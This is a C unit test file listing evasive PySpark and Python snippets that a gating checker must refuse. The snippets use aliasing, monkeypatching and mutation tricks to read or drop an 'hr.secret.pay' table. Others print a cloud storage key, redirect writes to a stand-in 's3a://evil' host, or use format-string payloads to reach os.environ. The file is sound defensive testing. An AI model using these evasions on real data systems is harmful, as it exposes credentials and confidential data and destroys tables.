/*
 * Loads of a model that hand something on, or take it under another name, where
 * nobody would look: none passes.
 */
#include "base/base.h"

#include "gating.h"

static const char *const statements[] = {
    "spark.read.table(\"shop.bronze.orders\").filter(F.cast(\"x\", \"ex"
    "ists(select 1 from hr.secret.pay)\"))",
    "DeltaTable.forName(spark, \"shop.silver.orders\").alias(\"t\").mer"
    "ge(spark.read.table(\"shop.bronze.orders\").alias(\"s\"), F.cast("
    "\"x\", \"exists(select 1 from hr.secret.pay)\")).whenMatchedUpdate"
    "(set={\"status\": F.cast(\"x\", \"s.status\")}).execute()",
    "from pyspark.sql.functions import cast\n"
    "spark.read.table(\"shop.bronze.orders\").filter(cast(\"x\", \"exis"
    "ts(select 1 from hr.secret.pay)\"))",
    "F.lower = lambda x: \"exists(select 1 from hr.secret.pay)\"\n"
    "spark.read.table(\"shop.bronze.orders\").filter(F.lower(\"a\"))",
    "DataFrame = type(spark.range(1))\n"
    "DataFrame.alias = lambda self, x: \"exists(select 1 from hr.secret"
    ".pay)\"",
    "from collections import namedtuple\n"
    "N = namedtuple(\"N\", \"alias other\")\n"
    "n = N(lambda x: \"exists(select 1 from hr.secret.pay)\", 1)\n"
    "spark.read.table(\"shop.bronze.orders\").filter(n.alias(\"a\"))",
    "from typing import NamedTuple\n"
    "N = NamedTuple(\"N\", [(\"when\", int)])\n"
    "n = N(lambda *a: \"exists(select 1 from hr.secret.pay)\")\n"
    "spark.read.table(\"shop.bronze.orders\").where(n.when(\"a\"))",
    "W = type(\"W\", (), {\"alias\": lambda self, x: \"exists(select 1 "
    "from hr.secret.pay)\"})\n"
    "spark.read.table(\"shop.bronze.orders\").filter(W().alias(\"a\"))",
    "class W:\n"
    "    def __getattr__(self, name):\n"
    "        return lambda *a: \"exists(select 1 from hr.secret.pay)\""
    "\n"
    "spark.read.table(\"shop.bronze.orders\").filter(W().alias(\"a\"))",
    "class W:\n"
    "    def __eq__(self, other):\n"
    "        return \"exists(select 1 from hr.secret.pay)\"\n"
    "spark.read.table(\"shop.bronze.orders\").filter(W() == 1)",
    "parts = [\"select 1 from shop.bronze.orders\"]\n"
    "y = parts\n"
    "y += [\"drop table hr.secret.pay\"]\n"
    "for q in parts:\n"
    "    spark.sql(q)",
    "parts = [\"select 1 from shop.bronze.orders\"]\n"
    "def grow(x):\n"
    "    x += [\"drop table hr.secret.pay\"]\n"
    "grow(parts)\n"
    "for q in parts:\n"
    "    spark.sql(q)",
    "d = {\"q\": \"select 1 from shop.bronze.orders\"}\n"
    "y = d\n"
    "y |= {\"q\": \"drop table hr.secret.pay\"}\n"
    "spark.sql(d[\"q\"])",
    "pairs = [[\"select 1 from shop.bronze.orders\", \"select 1 from sh"
    "op.bronze.orders\"]]\n"
    "pairs[0][0] = \"drop table hr.secret.pay\"\n"
    "for a, b in pairs:\n"
    "    spark.sql(a)",
    "pairs = [[\"select 1 from shop.bronze.orders\", \"select 1 from sh"
    "op.bronze.orders\"]]\n"
    "for p in pairs:\n"
    "    p[0] = \"drop table hr.secret.pay\"\n"
    "for a, b in pairs:\n"
    "    spark.sql(a)",
    "def bad(p):\n"
    "    p[0] = \"drop table hr.secret.pay\"\n"
    "pairs = [[\"select 1 from shop.bronze.orders\", \"select 1 from sh"
    "op.bronze.orders\"]]\n"
    "bad(*pairs)\n"
    "for a, b in pairs:\n"
    "    spark.sql(a)",
    "d = {\"x\": [\"order_id > 0\"]}\n"
    "d[\"x\"].append(\"exists(select 1 from hr.secret.pay)\")\n"
    "spark.read.table(\"shop.bronze.orders\").filter(\" and \".join(d["
    "\"x\"]))",
    "from pyspark.sql import Row\n"
    "parts = [\"select 1 from shop.bronze.orders\"]\n"
    "r = Row(parts)\n"
    "r[0].append(\"drop table hr.secret.pay\")\n"
    "for q in parts:\n"
    "    spark.sql(q)",
    "from pyspark.sql.types import StructField, StringType\n"
    "d = {\"q\": \"select 1 from shop.bronze.orders\"}\n"
    "s = StructField(\"a\", StringType(), True, d)\n"
    "s.metadata[\"q\"] = \"drop table hr.secret.pay\"\n"
    "spark.sql(d[\"q\"])",
    "import logging\n"
    "d = {\"q\": \"select 1 from shop.bronze.orders\"}\n"
    "a = logging.LoggerAdapter(logging.getLogger(\"extra\"), d)\n"
    "a.extra[\"q\"] = \"drop table hr.secret.pay\"\n"
    "spark.sql(d[\"q\"])",
    "parts = [\"select 1 from shop.bronze.orders\"]\n"
    "class K:\n"
    "    pass\n"
    "spark.read.table(\"shop.bronze.orders\").transform(lambda d, p: p."
    "append(\"drop table hr.secret.pay\") or d, parts)\n"
    "for q in parts:\n"
    "    spark.sql(q)",
    "parts = [\"select 1 from shop.bronze.orders\"]\n"
    "def grow(d, p):\n"
    "    p.append(\"drop table hr.secret.pay\")\n"
    "    return d\n"
    "spark.read.table(\"shop.bronze.orders\").transform(grow, parts)\n"
    "for q in parts:\n"
    "    spark.sql(q)",
    "class Q:\n"
    "    def q(self):\n"
    "        return \"select 1 from shop.bronze.orders\"\n"
    "a = Q()\n"
    "a.q = lambda: \"drop table hr.secret.pay\"\n"
    "spark.sql(a.q())",
    "class Q:\n"
    "    def __init__(self):\n"
    "        self.q = lambda: \"drop table hr.secret.pay\"\n"
    "    def q(self):\n"
    "        return \"select 1 from shop.bronze.orders\"\n"
    "a = Q()\n"
    "spark.sql(a.q())",
    "class Q:\n"
    "    @staticmethod\n"
    "    def q():\n"
    "        return \"select 1 from shop.bronze.orders\"\n"
    "a = Q()\n"
    "a.q = lambda: \"drop table hr.secret.pay\"\n"
    "spark.sql(a.q())",
    "class Q:\n"
    "    def __init__(self):\n"
    "        self.q = \"order_id > 0\"\n"
    "    def grow(self):\n"
    "        self.q += \" and exists(select 1 from hr.secret.pay)\"\n"
    "q = Q()\n"
    "q.grow()\n"
    "spark.read.table(\"shop.bronze.orders\").filter(q.q)",
    "class Q:\n"
    "    def __init__(self):\n"
    "        self.q = \"order_id > 0\"\n"
    "    def grow(self):\n"
    "        self.q, self.r = \"exists(select 1 from hr.secret.pay)\", "
    "1\n"
    "q = Q()\n"
    "q.grow()\n"
    "spark.read.table(\"shop.bronze.orders\").filter(q.q)",
    "from dataclasses import dataclass\n"
    "@dataclass\n"
    "class Q:\n"
    "    q: str = \"order_id > 0\"\n"
    "    @classmethod\n"
    "    def make(cls):\n"
    "        return cls(\"exists(select 1 from hr.secret.pay)\")\n"
    "    def show(self):\n"
    "        x = self.q\n"
    "        F.expr(self.q)\n"
    "Q(\"order_id > 1\").show()\n"
    "Q.make().show()",
    "from dataclasses import dataclass, replace as r\n"
    "@dataclass\n"
    "class Q:\n"
    "    q: str = \"order_id > 0\"\n"
    "    def show(self):\n"
    "        return spark.read.table(\"shop.bronze.orders\").filter(sel"
    "f.q)\n"
    "Q(\"order_id > 1\").show()\n"
    "o2 = r(Q(\"order_id > 1\"), **{\"q\": \"exists(select 1 from hr.se"
    "cret.pay)\"})\n"
    "o2.show()",
    "g = spark.conf.get\n"
    "print(g(\"fs.azure.account.key\"))",
    "b = DeltaTable.createOrReplace(spark).tableName(\"shop.silver.orde"
    "rs\")\n"
    "pr = b.property\n"
    "pr(\"location\", \"s3a://evil/x\")",
    "d = dbutils.widgets.dropdown\n"
    "d(\"t\", \"hr.secret.pay\", [\"hr.secret.pay\"])\n"
    "if spark is None:\n"
    "    dbutils.widgets.text(\"t\", \"shop.bronze.orders\")\n"
    "spark.read.table(dbutils.widgets.get(\"t\"))",
    "from logging import basicConfig\n"
    "basicConfig(filename=\"/tmp/evil.txt\")",
    "from logging import basicConfig as bc\n"
    "bc(**{\"filename\": \"/tmp/x\"})",
    "dbutils.widgets.text(*(\"t\", \"hr.secret.pay\"))\n"
    "dbutils.widgets.text(\"t\", \"shop.bronze.orders\")\n"
    "spark.read.table(dbutils.widgets.get(\"t\"))",
    "dbutils.widgets.text(**{\"name\": \"t\", \"defaultValue\": \"hr.se"
    "cret.pay\"})\n"
    "dbutils.widgets.text(\"t\", \"shop.bronze.orders\")\n"
    "spark.read.table(dbutils.widgets.get(\"t\"))",
    "import logging\n"
    "g = (x for x in [1])\n"
    "print(\"{0.gi_frame.f_globals[logging].os.environ}\".format(g))",
    "spark.read.table(\"shop.bronze.orders\").select(F.lit(\"{0.gi_fram"
    "e.f_globals[F].sys.modules[os].environ}\".format((x for x in [1]))"
    ").alias(\"status\"))",
    "def show(x, fmt):\n"
    "    return fmt.format(x)\n"
    "import logging\n"
    "print(show((x for x in [1]), \"{0.gi_frame.f_builtins[open]}\"))",
    "t = DeltaTable.forPath(spark, \"shop.silver.orders\", {\"fs.defaul"
    "tFS\": \"s3a://evil\"})",
    "spark.read.table(\"shop.bronze.orders\").write.format(\"delta\").o"
    "ption(\"fs.defaultFS\", \"s3a://evil\").mode(\"append\").save(\"sh"
    "op.silver.orders\")",
    "if spark is None:\n"
    "    spark.read.table(\"shop.bronze.orders\").createOrReplaceTempVi"
    "ew(\"pay\")\n"
    "spark.read.table(\"pay\")",
    "try:\n"
    "    spark.sql(\"create temporary view pay as select 1 as a from sh"
    "op.bronze.orders where\")\n"
    "except Exception:\n"
    "    print(\"x\")\n"
    "spark.read.table(\"pay\")",
    "spark.read.table(\"shop.bronze.orders\").createOrReplaceTempView("
    "\"pay\")\n"
    "spark.read.text(\"pay\")\n"
    "spark.read.table(\"shop.bronze.orders\").write.json(\"pay\")",
    "try:\n"
    "    spark.read.table(\"shop.bronze.orders\").createOrReplaceTempVi"
    "ew(\"*\")\n"
    "except Exception:\n"
    "    print(\"x\")\n"
    "spark.read.text(\"*\").show()",
    "spark.read.table(\"shop.bronze.orders\").write.mode(\"append\").pa"
    "rquet(\"shop.bronze.orders\")",
    "d = {\"status\": \"try_secret\"}\n"
    "spark.read.table(\"shop.bronze.orders\").groupBy(\"order_id\").agg"
    "(d)",
};

static void
test_they_are_refused(void **state)
{
	(void)state;
	gating_refuse(statements, COUNT_OF(statements));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_they_are_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
